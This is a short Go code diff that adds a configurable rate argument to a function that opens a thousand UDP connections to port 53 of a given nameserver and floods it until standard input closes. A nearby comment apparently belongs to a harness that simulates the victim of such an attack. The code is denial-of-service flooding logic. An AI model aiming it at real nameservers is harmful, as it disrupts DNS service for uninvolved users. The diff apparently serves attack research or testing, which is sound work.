@@ -7,6 +7,7 @@ import (
 	"io"
 	"net"
 	"os"
+	"strconv"
 	"strings"
 	"time"
 
@@ -72,8 +73,13 @@ func Flood(conns []net.Conn, rate int, stop <-chan struct{}) (sent int) {
 	return sent
 }
 
-// floodSealed floods a nameserver from a thousand ports until its standard input is closed.
+// floodSealed floods a nameserver from a thousand ports, at a rate, until its standard input is
+// closed.
 func floodSealed(args []string) error {
+	rate, err := strconv.Atoi(args[1])
+	if err != nil {
+		return err
+	}
 	var conns []net.Conn
 	for range 1000 {
 		c, err := net.Dial("udp", net.JoinHostPort(args[0], "53"))
@@ -82,7 +88,7 @@ func floodSealed(args []string) error {
 		}
 		conns = append(conns, c)
 	}
-	return untilClosed(func(stop <-chan struct{}) (int, error) { return Flood(conns, 10_000, stop), nil })
+	return untilClosed(func(stop <-chan struct{}) (int, error) { return Flood(conns, rate, stop), nil })
 }
 
 // resolveAll queries a nameserver for new names, as a victim of an attack, and prints the
